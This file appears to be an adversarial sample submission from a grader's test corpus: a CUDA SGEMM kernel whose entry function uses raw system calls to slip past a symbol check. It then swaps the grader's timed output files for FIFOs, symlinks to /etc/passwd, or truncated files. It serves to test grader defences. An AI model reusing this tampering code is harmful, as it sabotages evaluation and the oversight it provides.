// Sample submission "swaps_output_files": a correct tiled kernel whose
// basicSgemm, on every call, looks through its working folder and replaces
// each timed output the runner has written there (timed-output-*.f32) with a
// FIFO, a link to /etc/passwd or a file of 1000 bytes, hoping to hang the
// grader, make it read another file, or crash it on a short read. Raw system
// calls (no libc call at all), so the symbol check has nothing to see.
// The first performance case's outputs are swapped while the second one's
// warm-ups call basicSgemm; nothing calls it after the last case's outputs
// are written.
// Part of the grader's sample corpus (grader/samples/README.md); expect.yaml
// next to this file says how the grader must judge it.
#include <cuda_runtime.h>

#define TILE_SIZE 16

// C = A * B, row-major: A is m x k, B is k x n, C is m x n. One 16x16 block
// computes one 16x16 tile of C, walking along k one tile pair at a time.
__global__ void mysgemm(int m, int n, int k, const float *A, const float *B, float *C) {
  __shared__ float As[TILE_SIZE][TILE_SIZE];
  __shared__ float Bs[TILE_SIZE][TILE_SIZE];

  const int tx = threadIdx.x, ty = threadIdx.y;
  const int row = blockIdx.y * TILE_SIZE + ty;
  const int col = blockIdx.x * TILE_SIZE + tx;
  const int phases = (k + TILE_SIZE - 1) / TILE_SIZE;

  float sum = 0.0f;
  for (int p = 0; p < phases; ++p) {
    const int a_col = p * TILE_SIZE + tx;
    const int b_row = p * TILE_SIZE + ty;
    As[ty][tx] = (row < m && a_col < k) ? A[row * k + a_col] : 0.0f;
    Bs[ty][tx] = (b_row < k && col < n) ? B[b_row * n + col] : 0.0f;
    __syncthreads();
    for (int i = 0; i < TILE_SIZE; ++i) sum += As[ty][i] * Bs[i][tx];
    __syncthreads();
  }
  if (row < m && col < n) C[row * n + col] = sum;
}

static long raw_syscall(long number, long a, long b, long c, long d) {
#if defined(__x86_64__)
  long ret;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return ret;
#elif defined(__aarch64__)
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  register long x3 __asm__("x3") = d;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
  return x0;
#else
#error "this sample knows the system call convention of x86-64 and aarch64 only"
#endif
}

#if defined(__x86_64__)
enum { kClose = 3, kTruncate = 76, kGetdents64 = 217, kOpenat = 257, kMknodat = 259, kUnlinkat = 263, kSymlinkat = 266 };
#else
enum { kClose = 57, kTruncate = 45, kGetdents64 = 61, kOpenat = 56, kMknodat = 33, kUnlinkat = 35, kSymlinkat = 36 };
#endif
enum : long { kAtFdCwd = -100, kDirectory = 0200000, kFifo = 0010000, kRegularFile = 8 };

static bool starts_with_timed_output(const char *name) {
  const char *prefix = "timed-output-";
  for (int i = 0; prefix[i]; ++i)
    if (name[i] != prefix[i]) return false;
  return true;
}

static void swap_outputs() {
  static unsigned turn = 0;
  const long dir = raw_syscall(kOpenat, kAtFdCwd, reinterpret_cast<long>("."), kDirectory, 0);
  if (dir < 0) return;
  static char buf[1 << 16];
  for (;;) {
    const long got = raw_syscall(kGetdents64, dir, reinterpret_cast<long>(buf), sizeof buf, 0);
    if (got <= 0) break;
    for (long at = 0; at < got;) {
      // struct linux_dirent64: inode (8), offset (8), record length (2), type (1), name.
      const unsigned short length = *reinterpret_cast<unsigned short *>(buf + at + 16);
      const unsigned char type = static_cast<unsigned char>(buf[at + 18]);
      const char *name = buf + at + 19;
      if (type == kRegularFile && starts_with_timed_output(name)) {
        const long n = reinterpret_cast<long>(name);
        switch (turn++ % 3) {
          case 0:
            raw_syscall(kUnlinkat, kAtFdCwd, n, 0, 0);
            raw_syscall(kMknodat, kAtFdCwd, n, kFifo | 0666, 0);
            break;
          case 1:
            raw_syscall(kUnlinkat, kAtFdCwd, n, 0, 0);
            raw_syscall(kSymlinkat, reinterpret_cast<long>("/etc/passwd"), kAtFdCwd, n, 0);
            break;
          default:
            raw_syscall(kTruncate, n, 1000, 0, 0);
            break;
        }
      }
      at += length;
    }
  }
  raw_syscall(kClose, dir, 0, 0, 0);
}

void basicSgemm(int m, int n, int k, const float *A, const float *B, float *C) {
  swap_outputs();
  const dim3 block(TILE_SIZE, TILE_SIZE);
  const dim3 grid((n + TILE_SIZE - 1) / TILE_SIZE, (m + TILE_SIZE - 1) / TILE_SIZE);
  mysgemm<<<grid, block>>>(m, n, k, A, B, C);
}
